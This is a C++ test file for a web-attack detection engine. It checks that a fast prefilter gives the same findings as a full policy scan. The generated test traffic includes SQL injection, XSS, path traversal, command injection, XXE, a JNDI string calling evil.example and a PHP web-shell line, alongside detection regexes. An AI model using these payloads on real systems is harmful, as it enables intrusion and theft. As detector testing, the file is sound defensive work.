// The prefilter may only skip work, never change a result: CompiledPolicySet::Scan (Hyperscan
// prefilter, then confirmation of the candidates) must give exactly the findings of
// ScanWithoutPrefilter (every policy evaluated on every field) — same policies, locations,
// fragments, success flags and evidence — on
//   * every `tests:` vector of the built-in library and of the synthetic policies,
//   * those vectors mutated (attack fragments and encodings spliced into them),
//   * generated sample shop traffic (app/sample_traffic.h),
//   * thousands of generated exchanges that recombine attack fragments and benign values in
//     every location, under many encodings (percent, double percent, HTML entities, unicode
//     escapes, base64, case, comments, NULs, invalid UTF-8, Unicode case-folding look-alikes).
// The policies are the real library plus testdata/synthetic_policies.yaml, which exercises
// every selector, operator, transform and combinator.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <map>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <re2/re2.h>

#include "app/sample_traffic.h"
#include "common/strings.h"
#include "detect/compile/regex_atoms.h"
#include "detect/engine.h"
#include "detect/policy/loader.h"
#include "detect/policy/test_vector.h"
#include "normalize/normalize.h"

namespace warden {
namespace {

std::filesystem::path Source(const char* rel) {
  return std::filesystem::path(WARDEN_SOURCE_DIR) / rel;
}

std::vector<Policy> AllPolicies() {
  auto library = LoadPolicies({Source("policies")});
  EXPECT_TRUE(library.ok()) << library.status().ToString();
  auto synthetic = LoadPolicyFile(Source("tests/detect/testdata/synthetic_policies.yaml"));
  EXPECT_TRUE(synthetic.ok()) << synthetic.status().ToString();
  std::vector<Policy> all;
  if (library.ok()) all = std::move(library).value();
  if (synthetic.ok()) {
    for (auto& p : *synthetic) all.push_back(std::move(p));
  }
  return all;
}

const CompiledPolicySet& Set() {
  static const std::shared_ptr<const CompiledPolicySet> set = [] {
    auto compiled = CompilePolicies(AllPolicies());
    EXPECT_TRUE(compiled.ok()) << compiled.status().ToString();
    return compiled.ok() ? *compiled : nullptr;
  }();
  return *set;
}

std::string Describe(const Finding& f) {
  std::ostringstream os;
  os << f.policy_id << " @" << f.location << " '" << f.matched << "'"
     << (f.successful_exploit ? " exploit='" + f.exploit_evidence + "'" : "")
     << (f.monitor_only ? " monitor" : "");
  return os.str();
}

std::string Dump(const Exchange& e) {
  std::ostringstream os;
  os << e.method << " " << e.target << "\n";
  for (const auto& h : e.request_headers) os << h.name << ": " << h.value << "\n";
  os << "\n" << e.request_body << "\n-- " << e.status_code << "\n";
  for (const auto& h : e.response_headers) os << h.name << ": " << h.value << "\n";
  os << e.response_body << "\npeer " << e.peer_ip << " dest " << e.dest_ip;
  return os.str();
}

// Runs both paths on one exchange and records what they found.
class Differ {
 public:
  explicit Differ(const CompiledPolicySet& set) : set_(set) {}

  void Check(const Exchange& ex, const std::string& country, const std::string& what) {
    View view = BuildView(ex, NormalizeOptions{});
    view.country = country;
    std::vector<Finding> fast;
    std::vector<Finding> slow;
    set_.Scan(view, fast_scratch_, &fast);
    set_.ScanWithoutPrefilter(view, slow_scratch_, &slow);
    std::vector<std::string> a;
    std::vector<std::string> b;
    for (const auto& f : fast) a.push_back(Describe(f));
    for (const auto& f : slow) b.push_back(Describe(f));
    ++exchanges_;
    if (a != b) {
      ++mismatches_;
      if (mismatches_ <= 5) {
        ADD_FAILURE() << what << ": prefilter+confirm and evaluate-all differ\n"
                      << "prefilter: " << ::testing::PrintToString(a) << "\n"
                      << "all:       " << ::testing::PrintToString(b) << "\n"
                      << Dump(ex);
      }
    }
    for (const auto& f : slow) {
      ++findings_;
      fired_.insert(f.policy_id);
      if (f.successful_exploit) ++exploits_;
    }
    std::set<std::string> here;
    for (const auto& f : slow) here.insert(f.policy_id);
    for (const auto& p : set_.policies()) {
      if (here.count(p.id) == 0) quiet_.insert(p.id);
    }
    std::vector<std::size_t> candidates;
    set_.Candidates(view, fast_scratch_, &candidates);
    candidates_ += candidates.size();
  }

  int mismatches() const { return mismatches_; }
  std::size_t exchanges() const { return exchanges_; }
  std::size_t findings() const { return findings_; }
  std::size_t exploits() const { return exploits_; }
  double candidate_rate() const {
    return exchanges_ == 0 ? 0.0
                           : static_cast<double>(candidates_) /
                                 static_cast<double>(exchanges_ * set_.policies().size());
  }
  const std::set<std::string>& fired() const { return fired_; }
  const std::set<std::string>& quiet() const { return quiet_; }

 private:
  const CompiledPolicySet& set_;
  ScanScratch fast_scratch_;
  ScanScratch slow_scratch_;
  int mismatches_ = 0;
  std::size_t exchanges_ = 0;
  std::size_t findings_ = 0;
  std::size_t exploits_ = 0;
  std::size_t candidates_ = 0;
  std::set<std::string> fired_;
  std::set<std::string> quiet_;
};

// ---- Generated traffic -------------------------------------------------------------------

const char* const kAttacks[] = {
    "' OR '1'='1",
    "1 UNION SELECT password FROM users--",
    "1/**/UNION/**/SELECT/**/1,2",
    "admin'--",
    "'; DROP TABLE users; --",
    "1 AND SLEEP(5)",
    "x' AND extractvalue(1,concat(0x7e,version()))--",
    "select name from users where id=1",
    "SeLeCt a FrOm b",
    "\xc5\xbf" "elect * from t",  // long s: folds to 's' under (?i)
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "\\u003cimg src=x\\u003e",
    "%u0027 or 1=1",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/shadow",
    ";cat /etc/passwd",
    "| id",
    "$(whoami)",
    "`uname -a`",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "sqlmap/1.7.2#stable",
    "curl/8.4.0",
    "admin",
    "..",
    "x-internal",
    "/wp-admin/setup.php",
    "-5",
    "12345",
    "shell.php",
    "payload.exe",
    "{\"$where\": \"sleep(100)\"}",
    "$ne",
    "root:x:0:0:root:/root:/bin/bash",
    "You have an error in your SQL syntax",
    "ORA-01756",
    "caf\xc3\xa9",
    "abcdefghijklmnopqrstuvwxyzab",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "JyBPUiAxPTEgLS0=",
};

const char* const kBenign[] = {
    "shoes",      "John O'Brien", "please select a size", "2024-01-01", "42",
    "hello world", "red & blue",  "a+b",                  "100%",       "user@example.com",
    "Bearer abc.def.ghi", "from here to there", "union station", "page", "1",
    "",           "  spaced  ",   "null",                 "true",       "0",
};

const char* const kKeys[] = {"q",    "id",   "amount", "role", "file", "name",
                             "page", "user", "search", "x",    "redirect"};

class Generator {
 public:
  explicit Generator(std::uint64_t seed) : rng_(seed) {}

  std::size_t Pick(std::size_t n) { return std::uniform_int_distribution<std::size_t>(0, n - 1)(rng_); }
  bool Chance(int percent) { return static_cast<int>(Pick(100)) < percent; }

  std::string Fragment() {
    if (Chance(55)) return kAttacks[Pick(std::size(kAttacks))];
    return kBenign[Pick(std::size(kBenign))];
  }

  // A fragment, maybe combined with another, maybe encoded.
  std::string Value() {
    std::string v = Fragment();
    if (Chance(20)) v += (Chance(50) ? " " : "") + Fragment();
    return Encode(v);
  }

  std::string Encode(std::string v) {
    switch (Pick(14)) {
      case 0:
        return PercentEncode(v, false);
      case 1:
        return PercentEncode(PercentEncode(v, false), false);
      case 2: {  // HTML numeric references for punctuation
        std::string out;
        for (char ch : v) {
          unsigned char c = static_cast<unsigned char>(ch);
          if (IsAsciiAlnum(c) || c >= 0x80) {
            out.push_back(ch);
          } else {
            out += (Chance(50) ? "&#" + std::to_string(c) + ";" : "&#x" + HexEncode(std::string(1, ch)));
          }
        }
        return out;
      }
      case 3: {  // JS escapes
        std::string out;
        for (char ch : v) {
          unsigned char c = static_cast<unsigned char>(ch);
          out += (c == '<' || c == '>' || c == '\'') ? "\\u00" + HexEncode(std::string(1, ch))
                                                      : std::string(1, ch);
        }
        return out;
      }
      case 4:
        return Base64Encode(v);
      case 5: {
        for (char& c : v) c = Chance(50) ? AsciiUpper(static_cast<unsigned char>(c)) : c;
        return v;
      }
      case 6: {
        std::string out;
        for (char c : v) out += c == ' ' ? (Chance(50) ? "/**/" : "\t") : std::string(1, c);
        return out;
      }
      case 7:
        v.insert(Pick(v.size() + 1), std::string(1, '\0'));
        return v;
      case 8:
        v.insert(Pick(v.size() + 1), "\xff");
        return v;
      case 9:
        v.insert(Pick(v.size() + 1), Chance(50) ? "\xe2\x84\xaa" : "\xc5\xbf");  // K, long s
        return v;
      case 10:
        return v + "\n" + Fragment();
      default:
        return v;
    }
  }

  std::string UrlPart(const std::string& v) { return PercentEncode(v, Chance(50)); }

  std::string Path() {
    std::string p;
    int n = 1 + static_cast<int>(Pick(4));
    for (int i = 0; i < n; ++i) {
      p += "/";
      if (Chance(25)) {
        p += Chance(50) ? UrlPart(Value()) : Value();  // sometimes raw, as sensors deliver it
      } else {
        const char* segs[] = {"api", "v1", "users", "42", "orders", "admin", "health", "etc",
                              "files", "..", ".", "wp-admin", "backup.bak", "search"};
        p += segs[Pick(std::size(segs))];
      }
    }
    return p;
  }

  std::string Key() { return Chance(85) ? kKeys[Pick(std::size(kKeys))] : Value(); }

  Exchange Make() {
    Exchange e;
    const char* methods[] = {"GET", "POST", "PUT", "DELETE", "PATCH", "HEAD"};
    e.method = methods[Pick(std::size(methods))];
    e.host = "api.example.test";
    e.target = Path();
    if (Chance(70)) {
      e.target += "?";
      int n = 1 + static_cast<int>(Pick(4));
      for (int i = 0; i < n; ++i) {
        if (i > 0) e.target += "&";
        e.target += UrlPart(Key()) + "=" + UrlPart(Value());
      }
    }
    e.http_version = "HTTP/1.1";
    if (Chance(90)) e.request_headers.push_back({"User-Agent", Chance(80) ? "Mozilla/5.0" : Value()});
    if (Chance(50)) {
      std::string cookie;
      int n = 1 + static_cast<int>(Pick(3));
      const char* names[] = {"session", "sid", "theme", "prefs", "token"};
      for (int i = 0; i < n; ++i) {
        if (i > 0) cookie += "; ";
        cookie += std::string(names[Pick(std::size(names))]) + "=" + UrlPart(Value());
      }
      e.request_headers.push_back({"Cookie", cookie});
    }
    if (Chance(40)) {
      const char* names[] = {"X-Api-Key", "Referer", "X-Forwarded-Host",
                             "X-Very-Long-Custom-Header-Name", "X-Internal", "X-Trusted",
                             "Authorization"};
      e.request_headers.push_back({names[Pick(std::size(names))], Value()});
    }
    MakeBody(&e);
    if (Chance(80)) MakeResponse(&e);
    const char* peers[] = {"10.1.2.3", "192.0.2.44", "203.0.113.9:5555", "2001:db8::7",
                           "[fd00::1]:443", "198.51.100.20"};
    e.peer_ip = peers[Pick(std::size(peers))];
    const char* dests[] = {"", "198.51.100.4", "198.51.100.4:8443", "203.0.113.1"};
    e.dest_ip = dests[Pick(std::size(dests))];
    e.time_s = 1700000000;
    e.source = "differential";
    return e;
  }

  void MakeBody(Exchange* e) {
    switch (Pick(7)) {
      case 0: {  // JSON
        e->request_headers.push_back({"Content-Type", "application/json"});
        std::string body = "{";
        int n = 1 + static_cast<int>(Pick(4));
        for (int i = 0; i < n; ++i) {
          if (i > 0) body += ",";
          body += "\"" + JsonEscape(Key()) + "\":";
          switch (Pick(4)) {
            case 0:
              body += "{\"tags\":[\"" + JsonEscape(Value()) + "\",\"" + JsonEscape(Value()) + "\"]}";
              break;
            case 1:
              body += std::to_string(static_cast<int>(Pick(2000)) - 1000);
              break;
            default:
              body += "\"" + JsonEscape(Value()) + "\"";
          }
        }
        body += Chance(30) ? ",\"user\":{\"tags\":[\"$where\",\"x\"]},\"role\":\"admin\"}" : "}";
        e->request_body = body;
        break;
      }
      case 1: {  // form
        e->request_headers.push_back({"Content-Type", "application/x-www-form-urlencoded"});
        e->request_body = UrlPart(Key()) + "=" + UrlPart(Value()) + "&" + UrlPart(Key()) + "=" +
                          UrlPart(Value());
        break;
      }
      case 2: {  // XML
        e->request_headers.push_back({"Content-Type", Chance(50) ? "application/xml" : "text/plain"});
        std::string body = "<?xml version=\"1.0\"?>";
        if (Chance(30)) body += "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        body += "<order><item id=\"" + XmlEscape(Chance(60) ? "7" : Value()) + "\">" +
                XmlEscape(Value()) + "</item><note><![CDATA[" + Value() + "]]></note></order>";
        e->request_body = body;
        break;
      }
      case 3: {  // multipart
        e->request_headers.push_back({"Content-Type", "multipart/form-data; boundary=XyZ"});
        const char* files[] = {"photo.png", "shell.php", "a.jsp", "run.sh", "notes.txt"};
        e->request_body = "--XyZ\r\nContent-Disposition: form-data; name=\"" + Key() +
                          "\"\r\n\r\n" + Value() +
                          "\r\n--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; "
                          "filename=\"" +
                          std::string(files[Pick(std::size(files))]) +
                          "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + Value() +
                          "\r\n--XyZ--\r\n";
        break;
      }
      case 4: {  // raw text, sometimes long
        std::string body = Value();
        if (Chance(30)) body += std::string(Pick(600), 'a') + Fragment();
        e->request_body = body;
        break;
      }
      default:
        break;  // no body
    }
  }

  void MakeResponse(Exchange* e) {
    const int codes[] = {200, 200, 201, 302, 400, 401, 403, 404, 418, 500};
    e->status_code = codes[Pick(std::size(codes))];
    if (Chance(40)) {
      const char* servers[] = {"Apache/2.2.15 (CentOS)", "nginx/1.25", "apache/2.4.1",
                               "Apache/2.0.1"};
      e->response_headers.push_back({"Server", servers[Pick(std::size(servers))]});
    }
    if (Chance(50)) {
      e->response_headers.push_back({"Content-Type", "application/json"});
      e->response_body = "{\"result\":\"" + JsonEscape(Value()) + "\",\"count\":3}";
    } else if (Chance(50)) {
      e->response_body = Fragment();
    }
  }

  static std::string JsonEscape(const std::string& s) {
    std::string out;
    for (char ch : s) {
      unsigned char c = static_cast<unsigned char>(ch);
      if (c == '"' || c == '\\') {
        out.push_back('\\');
        out.push_back(ch);
      } else if (c < 0x20) {
        char buf[8];
        std::snprintf(buf, sizeof buf, "\\u%04x", c);
        out += buf;
      } else {
        out.push_back(ch);
      }
    }
    return out;
  }

  static std::string XmlEscape(const std::string& s) {
    std::string out;
    for (char c : s) {
      if (c == '<') {
        out += "&lt;";
      } else if (c == '&') {
        out += "&amp;";
      } else if (c == '"') {
        out += "&quot;";
      } else {
        out.push_back(c);
      }
    }
    return out;
  }

  const char* Country() {
    const char* countries[] = {"", "DE", "US", "KP", "IR", "RU", "BR"};
    return countries[Pick(std::size(countries))];
  }

  // A test vector's exchange with fragments spliced in.
  Exchange Mutate(Exchange e) {
    switch (Pick(4)) {
      case 0:
        e.target += (e.target.find('?') == std::string::npos ? "?" : "&") + UrlPart(Key()) + "=" +
                    UrlPart(Value());
        break;
      case 1:
        e.request_headers.push_back({"X-Internal", Value()});
        break;
      case 2:
        e.request_body += Value();
        break;
      default:
        e.status_code = 200;
        e.response_body = Fragment();
        break;
    }
    return e;
  }

 private:
  std::mt19937_64 rng_;
};

// ---- Tests -------------------------------------------------------------------------------

void CollectRegexes(const Condition& c, std::set<std::string>* out) {
  if (c.kind == Condition::Kind::kOperator && c.name == "regex" && !c.operand.values.empty()) {
    out->insert(c.operand.values.front());
  }
  for (const auto& child : c.children) CollectRegexes(child, out);
}

bool Holds(const AtomFormula& f, const std::string& lowered) {
  switch (f.kind) {
    case AtomFormula::Kind::kTrue:
      return true;
    case AtomFormula::Kind::kAtom:
      return lowered.find(f.atom) != std::string::npos;
    case AtomFormula::Kind::kAnd:
      for (const auto& c : f.children) {
        if (!Holds(c, lowered)) return false;
      }
      return true;
    case AtomFormula::Kind::kOr:
      for (const auto& c : f.children) {
        if (Holds(c, lowered)) return true;
      }
      return false;
  }
  return true;
}

// The prefilter's view of a text: ASCII-lowered, U+017F and U+212A spelled 's' and 'k'.
std::string Folded(std::string t) {
  for (auto [from, to] : {std::pair<std::string, std::string>{"\xc5\xbf", "s"},
                          std::pair<std::string, std::string>{"\xe2\x84\xaa", "k"}}) {
    for (std::size_t at = t.find(from); at != std::string::npos; at = t.find(from)) {
      t.replace(at, from.size(), to);
    }
  }
  return AsciiLowered(t);
}

// The atoms read from every regex of the library are necessary: whenever RE2 matches a text,
// the atom formula holds on it.
TEST(DifferentialTest, RegexAtomsAreNecessaryForLibraryRegexes) {
  std::set<std::string> regexes;
  for (const Policy& p : Set().policies()) CollectRegexes(p.filter, &regexes);
  ASSERT_GT(regexes.size(), 50u);
  std::vector<std::string> texts(std::begin(kAttacks), std::end(kAttacks));
  for (const Policy& p : Set().policies()) {
    for (const PolicyTestVector& t : p.tests) {
      texts.push_back(t.url);
      texts.push_back(PercentDecode(t.url, true));
      texts.push_back(t.request_body);
      texts.push_back(t.response_body);
      for (const auto& h : t.request_headers) texts.push_back(h.value);
    }
  }
  Generator gen(99);
  for (int i = 0; i < 3000; ++i) texts.push_back(gen.Value());
  std::size_t matches = 0;
  for (const std::string& re : regexes) {
    RE2 compiled(re);
    if (!compiled.ok()) continue;
    AtomFormula f = RegexAtoms(re);
    for (const std::string& t : texts) {
      std::string valid = IsValidUtf8(t) ? t : SanitizeUtf8(t);
      if (!RE2::PartialMatch(valid, compiled)) continue;
      ++matches;
      EXPECT_TRUE(Holds(f, AsciiLowered(valid)) || Holds(f, Folded(valid)))
          << "/" << re << "/ matches '" << valid << "' but " << ToString(f) << " does not hold";
    }
  }
  EXPECT_GT(matches, 500u);
}

TEST(DifferentialTest, SetLoadsWithPrefilter) {
  const CompiledPolicySet& set = Set();
  ASSERT_GT(set.policies().size(), 30u);
  EXPECT_EQ(set.prefilter_stats().databases, 1u);
  EXPECT_GE(set.prefilter_stats().chains, 2u);
  std::size_t always = 0;
  for (std::size_t i = 0; i < set.policies().size(); ++i) {
    always += set.prefilter_info(i).always ? 1 : 0;
  }
  // Most policies have a requirement; the synthetic set has a handful that cannot.
  EXPECT_LT(always * 2, set.policies().size());
}

TEST(DifferentialTest, SyntheticVectorsPass) {
  for (const VectorOutcome& o : RunTestVectors(Set(), NormalizeOptions{})) {
    EXPECT_TRUE(o.passed) << o.policy->id << " '" << o.vector->name << "': " << o.message;
  }
}

TEST(DifferentialTest, TestVectorsAndTheirMutations) {
  const CompiledPolicySet& set = Set();
  Differ differ(set);
  Generator gen(7);
  for (const Policy& p : set.policies()) {
    for (const PolicyTestVector& t : p.tests) {
      Exchange ex = ExchangeFromTestVector(t);
      differ.Check(ex, "", p.id + " vector '" + t.name + "'");
      for (int i = 0; i < 4; ++i) {
        differ.Check(gen.Mutate(ex), gen.Country(), p.id + " mutated vector '" + t.name + "'");
      }
    }
  }
  EXPECT_EQ(differ.mismatches(), 0);
  EXPECT_GT(differ.exchanges(), 250u);
  EXPECT_GT(differ.findings(), 100u);
}

TEST(DifferentialTest, SampleTraffic) {
  const CompiledPolicySet& set = Set();
  Differ differ(set);
  SampleTrafficOptions options;
  options.count = 3000;
  options.seed = 11;
  options.start_time_s = 1700000000;
  options.attack_ratio = 0.2;
  for (const Exchange& ex : GenerateSampleTraffic(options)) differ.Check(ex, "DE", "sample");
  EXPECT_EQ(differ.mismatches(), 0);
  EXPECT_GT(differ.findings(), 100u);
  // The point of the prefilter: most policies are not evaluated on ordinary traffic.
  EXPECT_LT(differ.candidate_rate(), 0.5);
}

// Regex gates are first checked against a summary (bytes every passing text has, one rare byte
// per alternative, whether a Hyperscan hit is needed) before they are walked. Gates of every
// shape (ORs of single bytes, of short atoms, of long atoms, ANDs mixing them, an atom holding a
// line break) against values that have all, some or none of what they need, in the raw body
// (one text, no transform), in a header and in a URL-decoded query value.
TEST(DifferentialTest, RegexGateSummariesOnlySkip) {
  constexpr std::string_view kYaml = R"yaml(
id: Gate.Singles
filter: {request_headers: {regex: "[<>]script|['\"]\\s*;"}}
---
id: Gate.Shorts
filter: {request_payload: {regex: "(?i)(?:ab|\\(\\)|\\$\\{)x"}}
---
id: Gate.Longs
filter: {request_payload: {regex: "(?i)(?:union|select|sleep)\\W+\\w"}}
---
id: Gate.Mixed
filter:
  query_param:
    transforms: [url_decode]
    regex: "(?i)(?:'|etc/pass)wd.{0,3}(?:;|\\$\\(|\\|\\|)"
---
id: Gate.LineBreak
filter: {request_payload: {regex: "\\nset-cookie:|\\r\\nlocation:"}}
)yaml";
  auto policies = ParsePolicies(kYaml, "gates.yaml");
  ASSERT_TRUE(policies.ok()) << policies.status().ToString();
  auto compiled = CompilePolicies(std::move(policies).value());
  ASSERT_TRUE(compiled.ok()) << compiled.status().ToString();
  Differ differ(**compiled);
  const std::string values[] = {
      "", "x", "ab", "abx", "ABx", "()x", "${x", "<script", ">script", "' ;", "\" ;", "\";",
      "union", "union select", "UNION/**/SELECT x", "sleep(5)", "sleep", "'wd;", "'wd$(",
      "etc/passwd||", "etc/passwd", "etc/passwd x;", "wd;", "a\nset-cookie: x", "\r\nlocation:",
      "\nSET-COOKIE: y", "set-cookie:", "\xc5\xbfleep 1", "\xe2\x84\xaa", "plain text value"};
  int i = 0;
  for (const std::string& v : values) {
    for (const std::string& w : values) {
      Exchange ex;
      ex.method = "POST";
      ex.host = "shop.example";
      ex.target = "/p?q=" + PercentEncode(v, false) + "&r=" + PercentEncode(w, false);
      ex.request_headers = {{"X-A", v}, {"X-B", w}};
      ex.request_body = v + w;
      ex.status_code = 200;
      differ.Check(ex, "", "gate pair #" + std::to_string(i++));
    }
  }
  EXPECT_EQ(differ.mismatches(), 0);
  for (const char* id : {"Gate.Singles", "Gate.Shorts", "Gate.Longs", "Gate.Mixed",
                         "Gate.LineBreak"}) {
    EXPECT_EQ(differ.fired().count(id), 1u) << id << " never fired";
    EXPECT_EQ(differ.quiet().count(id), 1u) << id << " always fired";
  }
}

// WARDEN_DIFFERENTIAL_EXCHANGES and WARDEN_DIFFERENTIAL_SEED widen the search locally.
TEST(DifferentialTest, GeneratedAndMutatedTraffic) {
  const CompiledPolicySet& set = Set();
  Differ differ(set);
  const char* seed = std::getenv("WARDEN_DIFFERENTIAL_SEED");
  const char* count = std::getenv("WARDEN_DIFFERENTIAL_EXCHANGES");
  Generator gen(seed != nullptr ? std::strtoull(seed, nullptr, 10) : 20240601);
  const long n = count != nullptr ? std::strtol(count, nullptr, 10) : 6000;
  for (long i = 0; i < n; ++i) {
    Exchange ex = gen.Make();
    differ.Check(ex, gen.Country(), "generated #" + std::to_string(i));
  }
  EXPECT_EQ(differ.mismatches(), 0);
  EXPECT_GT(differ.findings(), 3000u);
  EXPECT_GT(differ.exploits(), 0u);
  // Not vacuous: every synthetic policy fires somewhere and stays quiet somewhere.
  for (const Policy& p : set.policies()) {
    if (p.id.rfind("Syn.", 0) != 0) continue;
    EXPECT_EQ(differ.fired().count(p.id), 1u) << p.id << " never fired";
    EXPECT_EQ(differ.quiet().count(p.id), 1u) << p.id << " always fired";
  }
}

}  // namespace
}  // namespace warden
